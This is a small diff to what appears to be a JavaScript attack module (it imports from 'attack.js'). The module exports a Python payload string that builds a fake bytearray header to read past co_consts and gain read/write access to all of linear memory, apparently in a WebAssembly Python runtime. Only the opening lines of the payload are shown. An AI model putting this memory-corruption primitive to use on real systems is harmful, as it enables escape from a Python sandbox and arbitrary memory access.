@@ -1,7 +1,7 @@
 import { single } from './attack.js';
 
 /** Reads `co_consts` beyond its end: a bytes object becomes a bytearray that spans all of linear memory. */
-const MEMORY = `import sys
+export const MEMORY = `import sys
 def p32(n): return (n & 0xffffffff).to_bytes(4, 'little')
 def window(start=0, size=0x7fffffff):
     fake = p32(1 << 24) + p32(id(bytearray)) + p32(size) + p32(size) + p32(start) + p32(start) + p32(0)
